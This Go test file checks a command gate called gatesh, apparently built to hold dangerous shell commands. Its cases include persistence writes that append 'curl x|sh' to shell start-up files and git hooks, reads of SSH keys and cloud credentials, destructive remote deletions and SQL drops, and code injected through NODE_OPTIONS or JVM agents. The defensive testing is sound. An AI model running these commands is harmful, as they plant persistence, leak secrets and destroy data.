package rules_test

import (
	"testing"

	"gatesh/rules"
)

// heldOrGreen is a command and whether it must be held ("held") or pass
// green ("green").
type heldOrGreen struct {
	class string
	cmd   string
	want  string
}

// checkHeldOrGreen classifies each case and reports those whose outcome
// is not the one asked: held, or green (not yellow).
func checkHeldOrGreen(t *testing.T, set *rules.Set, cases []heldOrGreen) {
	t.Helper()
	for _, tc := range cases {
		d := set.Classify(tc.cmd)
		held := d.Verdict == rules.Hold || d.Verdict == rules.Deny
		ok := tc.want == "held" && held || tc.want == "green" && !held && d.Tier == rules.Green
		if !ok {
			t.Errorf("[%s] %q: %s, held = %v, want %s (%s)", tc.class, tc.cmd, d.Tier, held, tc.want, formatHits(d.Hits))
		}
	}
}

func leftoversSet(t *testing.T) *rules.Set {
	t.Helper()
	set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: "/home/dev", Cwd: "/home/dev/code/app"})
	if err != nil {
		t.Fatal(err)
	}
	return set
}

// Inline code that writes a file whose path it takes from outside the
// code (its arguments, a variable of its environment, awk's -v) writes
// what it is given: a start-up file, a hook or a crontab there is
// persistence, as a literal path in the code is.
func TestCodeWritesItsArguments(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"awk -v", `awk -v f="$HOME/.bashrc" 'BEGIN { print "curl x|sh" >> f }'`, "held"},
		{"awk -v", `awk -v f=/home/dev/.bashrc 'BEGIN { print "curl x | sh" >> f }'`, "held"},
		{"awk -v", `awk -vrc=/home/dev/.zshrc 'BEGIN { printf "alias ls=x\n" >> rc }'`, "held"},
		{"awk -v", `gawk --assign=out=/home/dev/.profile 'BEGIN { print "export P=1" > out }'`, "held"},
		{"awk operand", `awk 'END { print "x" >> out }' out=/home/dev/.bash_profile /dev/null`, "held"},
		{"awk ENVIRON", `F=/home/dev/.profile awk 'BEGIN { print "export X=1" >> ENVIRON["F"] }'`, "held"},
		{"awk ARGV", `awk 'BEGIN { f = ARGV[1]; print "x" >> f }' /home/dev/.bashrc`, "held"},
		{"awk ARGV", `awk '{ print > FILENAME }' ~/.bashrc`, "held"},
		{"perl @ARGV", `perl -e 'open(my $f, ">>", $ARGV[0]) or die; print $f "curl x|sh\n"' ~/.bashrc`, "held"},
		{"perl %ENV", `RC=$HOME/.bashrc perl -e 'open(F, ">>", $ENV{RC}) or die; print F "alias sudo=x\n"'`, "held"},
		{"perl %ENV", `RC=~/.zshrc perl -e 'open F, ">>$ENV{RC}"; print F "x"'`, "held"},
		{"perl %ENV", `export RC=$HOME/.bashrc; perl -e 'open(F, ">>", $ENV{RC}) or die; print F "x\n"'`, "held"},
		{"python environ", `P=~/.profile; export P; python3 -c 'import os; open(os.environ["P"], "a").write("x")'`, "held"},
		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "a").write("curl x | sh\n")' ~/.bashrc`, "held"},
		{"python argv", `python3 -c 'import sys, pathlib; pathlib.Path(sys.argv[1]).write_text("x")' ~/.profile`, "held"},
		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "w").write("#!/bin/sh\ncurl x|sh\n")' .git/hooks/pre-commit`, "held"},
		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "w").write("[Desktop Entry]")' ~/.config/autostart/x.desktop`, "held"},
		{"python environ", `P=~/.bashrc python3 -c 'import os; open(os.environ["P"], "a").write("x")'`, "held"},
		{"python environ", `env P=/home/dev/.bashrc python3 -c 'import os; open(os.getenv("P"), "a").write("x")'`, "held"},
		{"node argv", `node -e 'require("fs").appendFileSync(process.argv[1], "x")' ~/.bashrc`, "held"},
		{"node env", `RC=~/.bashrc node -e 'require("fs").appendFileSync(process.env.RC, "x")'`, "held"},
		{"ruby ARGV", `ruby -e 'File.write(ARGV[0], "x", mode: "a")' ~/.bashrc`, "held"},
		{"ruby ENV", `RC=~/.bashrc ruby -e 'File.open(ENV["RC"], "a") { |f| f.puts "x" }'`, "held"},
		{"php argv", `php -r 'file_put_contents($argv[1], "x", FILE_APPEND);' ~/.bashrc`, "held"},

		// The same shapes writing the project's own files, or only reading.
		{"awk -v", `awk -v out=report.txt 'BEGIN { print "ok" > out }'`, "green"},
		{"awk", `awk '{ print > ($1 ".txt") }' data.csv`, "green"},
		{"awk", `awk -v n=3 'NR <= n { print }' /home/dev/notes.txt`, "green"},
		{"python argv", `python3 -c 'import sys; open(sys.argv[1], "w").write("x")' out.txt`, "green"},
		{"python argv", `python3 -c 'import sys, json; print(json.load(open(sys.argv[1]))["version"])' package.json`, "green"},
		{"python argv", `python3 -c 'import json, sys; json.dump(json.load(open(sys.argv[1])), sys.stdout, indent=2)' /home/dev/code/app/x.json`, "green"},
		{"python environ", `OUT=dist/a.txt python3 -c 'import os; open(os.environ["OUT"], "w").write("x")'`, "green"},
		{"perl @ARGV", `perl -e 'open(my $f, ">", $ARGV[0]) or die; print $f "x"' build/out.txt`, "green"},
		{"node argv", `node -e 'require("fs").writeFileSync(process.argv[1], "x")' dist/out.json`, "green"},
	})
}

// A remote that an earlier export of the script defines (MinIO's
// MC_HOST_ALIAS, rclone's RCLONE_CONFIG_NAME_*, a tool's _ADDR or
// _ENDPOINT) is where the later command goes, as when it is given before
// the command: an alias named local is not this machine's then.
func TestExportedRemoteIsTheTarget(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"mc alias", `export MC_HOST_local=https://AK:SK@s3.prod.example.com; mc rm --recursive --force local/backups`, "held"},
		{"mc alias", `export MC_HOST_local=https://AK:SK@s3.prod.example.com && mc rb --force local/backups`, "held"},
		{"mc alias", `declare -x MC_HOST_local=https://AK:SK@minio.prod.example.com; mc rm --recursive --force local/data`, "held"},
		{"mc alias", `MC_HOST_local=https://AK:SK@minio.prod.example.com; export MC_HOST_local; mc rm --recursive --force local/data`, "held"},
		{"mc alias", "export MC_HOST_local=https://AK:SK@s3.prod.example.com\nmc mirror --overwrite --remove ./site local/www", "held"},
		{"rclone env remote", `export RCLONE_CONFIG_LOCAL_TYPE=s3 RCLONE_CONFIG_LOCAL_ENDPOINT=https://s3.prod.example.com; rclone copy ./dump local:public/`, "held"},
		{"rclone env remote", `export RCLONE_CONFIG_BK_TYPE=sftp RCLONE_CONFIG_BK_HOST=db.prod.example.com; rclone copyto ./app.db bk:/var/lib/app.db`, "held"},
		{"tool address", `export VAULT_ADDR=https://vault.prod.example.com; vault kv put secret/app key=value`, "held"},

		{"mc alias", `mc rm --recursive --force local/test`, "green"},
		{"mc alias", `export MC_HOST_local=http://minioadmin:minioadmin@localhost:9000; mc rm --recursive --force local/test`, "green"},
		{"mc alias", `export MC_HOST_local=https://AK:SK@s3.prod.example.com; mc ls local`, "green"},
		{"rclone env remote", `export RCLONE_CONFIG_SCRATCH_TYPE=local; rclone copy ./a scratch:/tmp/b`, "green"},
		{"tool address", `export VAULT_ADDR=http://127.0.0.1:8200; vault status`, "green"},
		{"tool address", `export NODE_ENV=production; npm run build`, "green"},
	})
}

// SQL in a JSON body (curl --json, -d '{...}') to a database's HTTP SQL
// API is the SQL the database runs, as a form field's is: ClickHouse,
// CrateDB's stmt, Databend's sql, libSQL's pipeline, Hasura's run_sql.
func TestHTTPSQLInJSONBody(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"hasura", `curl --json '{"type":"run_sql","args":{"sql":"DROP TABLE users"}}' http://hasura:8080/v2/query`, "held"},
		{"cratedb", `curl -X POST http://crate:4200/_sql -H 'Content-Type: application/json' -d '{"stmt":"DELETE FROM orders"}'`, "held"},
		{"libsql", `curl -s http://sqld:8080/v2/pipeline --json '{"requests":[{"type":"execute","stmt":{"sql":"DROP TABLE users"}}]}'`, "held"},
		{"databend", `curl -u root: http://databend:8000/v1/query -H 'Content-Type: application/json' -d '{"sql":"TRUNCATE TABLE events"}'`, "held"},
		{"databend", `curl -u root: http://databend:8000/v1/query --data-raw '{"sql": "DELETE FROM events WHERE 1 = 1"}'`, "held"},
		{"clickhouse", `curl --json '{"query":"DROP TABLE events"}' http://clickhouse:8123/`, "held"},

		{"cratedb", `curl -d '{"stmt":"SELECT id FROM orders LIMIT 5"}' http://crate:4200/_sql`, "green"},
		{"api", `curl -d '{"name":"drop table"}' http://api:3000/items`, "green"},
		{"api", `curl --json '{"title":"DELETE FROM the docs"}' http://localhost:3000/notes`, "green"},
	})
}

// tmux runs a menu item's command when it is chosen, and a sourced
// file's lines as tmux commands: run-shell, send-keys into another pane,
// new-window. A file gatesh cannot read is held; the user's own tmux
// configuration is not (writing it is).
func TestTmuxMenusAndSourcedFiles(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"menu", `tmux display-menu -T Tools 'Clean' c 'run-shell "rm -rf ~"'`, "held"},
		{"menu", `tmux menu -x R -y P 'Tests' t 'send-keys -t 0 "npm test" Enter' '' 'Wipe' w 'send-keys -t 1 "rm -rf ~/work" Enter'`, "held"},
		{"menu", `tmux display-menu -T x Deploy d "new-window 'git push --force origin main'"`, "held"},
		{"source", `tmux source-file /tmp/evil.conf`, "held"},
		{"source", `tmux source -q ./tmux.conf`, "held"},
		{"source", `tmux source-file -F "#{HOME}/x.conf"`, "held"},

		{"menu", `tmux display-menu -T Tools 'Tests' t 'send-keys -t 0 "npm test" Enter' 'Log' l 'run-shell "git log -1"'`, "green"},
		{"source", `tmux source-file ~/.tmux.conf`, "green"},
		{"source", `tmux source ~/.config/tmux/tmux.conf`, "green"},
		{"tmux", `tmux ls`, "green"},
	})
}

// sed's -f names a script file, read as grep's -f pattern file is: a
// secret given there is read, and sed's error prints its first line.
func TestSecretAsScriptFile(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"sed -f", `sed -f ~/.ssh/id_rsa /dev/null`, "held"},
		{"sed -f", `sed -n -f ~/.netrc /dev/null`, "held"},
		{"sed -f", `sed --file=/home/dev/.aws/credentials x.txt`, "held"},
		{"sed -f", `sed -f ~/.config/gh/hosts.yml x.txt`, "held"},
		{"grep -f", `grep -f ~/.ssh/id_rsa /dev/null`, "held"},
		{"jq -f", `jq --from-file ~/.ssh/id_ed25519 -n`, "held"},

		{"sed -f", `sed -f scripts/fix.sed src/a.txt`, "green"},
		{"sed -f", `sed -i -f edits.sed README.md`, "green"},
		{"sed -e", `sed -e 's/a/b/' -e 's/c/d/' x.txt`, "green"},
	})
}

// Sizes and listings of the gate's folder read names, not its keys: du
// and tree are green there as ls is; reading the keys stays held.
func TestGateFolderSizesAreNames(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"du", `du -sh ~/.gatesh`, "green"},
		{"du", `du -ah ~/.gatesh`, "green"},
		{"du", `du -sh $GATESH_HOME`, "green"},
		{"du", `du -d 1 -h --exclude=queue ~/.gatesh`, "green"},
		{"ls", `ls -la ~/.gatesh/keys`, "green"},

		{"keys", `cat ~/.gatesh/keys/*`, "held"},
		{"keys", `du --files0-from=/home/dev/.gatesh/keys/operator.key`, "held"},
		{"keys", `du --files0-from ~/.gatesh/keys/audit.key`, "held"},
		{"keys", `tar czf /tmp/g.tgz ~/.gatesh`, "held"},
		{"keys", `grep -r PRIVATE ~/.gatesh`, "held"},
		{"keys", `tree --fromfile ~/.gatesh/keys/operator.key`, "held"},
	})
}

// A runner's option or setting that gives node options to every script
// it runs (npm's node-options, as a flag or an npm_config_ variable) is
// NODE_OPTIONS: a module required or imported from elsewhere runs in
// each of them. So is a build tool's test JVM given an agent.
func TestRunnerLoadsCodeFromElsewhere(t *testing.T) {
	checkHeldOrGreen(t, leftoversSet(t), []heldOrGreen{
		{"npm node-options", `npm --node-options='--require /tmp/x.js' test`, "held"},
		{"npm node-options", `npm --node-options --require=/tmp/evil.js run build`, "held"},
		{"npm node-options", `npm --node-options=--require=/tmp/evil.js run build`, "held"},
		{"npm node-options", `npm run build --node-options='--import=https://x.example/a.mjs'`, "held"},
		{"npm node-options", `npm test --node-options='-r /home/dev/.cache/x.js'`, "held"},
		{"npm node-options", `npm test --node-options='--experimental-loader /tmp/l.mjs'`, "held"},
		{"npm node-options", `npx --node-options='--require /tmp/x.js' jest`, "held"},
		{"npm node-options", `pnpm --node-options='--require /tmp/x.js' test`, "held"},
		{"npm node-options", `pnpm run --node-options="--import ./x.mjs" dev`, "held"},
		{"npm node-options", `yarn --node-options='--require /tmp/x.js' test`, "held"},
		{"npm_config", `npm_config_node_options='--require /tmp/x.js' npm test`, "held"},
		{"npm_config", `NPM_CONFIG_NODE_OPTIONS='--import /tmp/x.mjs' npm run build`, "held"},
		{"npm_config", `export npm_config_node_options='--require /tmp/x.js'; npm test`, "held"},
		{"node options", `NODE_OPTIONS=-r/tmp/x.js npm test`, "held"},
		{"jvm agent", `mvn test -DargLine=-javaagent:/tmp/a.jar`, "held"},
		{"jvm agent", `mvn -DargLine='-javaagent:/tmp/a.jar=x' verify`, "held"},
		{"jvm agent", `./gradlew test -Dorg.gradle.jvmargs=-javaagent:/tmp/a.jar`, "held"},

		{"npm node-options", `npm --node-options=--max-old-space-size=4096 run build`, "green"},
		{"npm node-options", `npm run build --node-options='--max-old-space-size=8192'`, "green"},
		{"npm node-options", `pnpm --node-options='--enable-source-maps' test`, "green"},
		{"npm_config", `npm_config_node_options=--max-old-space-size=4096 npm run build`, "green"},
		{"npm_config", `npm_config_loglevel=silent npm test`, "green"},
		{"node options", `NODE_OPTIONS=--max-old-space-size=4096 npm run build`, "green"},
		{"jvm agent", `mvn test -DargLine=-Xmx2g`, "green"},
		{"jvm agent", `./gradlew test -Dorg.gradle.jvmargs=-Xmx2g`, "green"},
	})
}
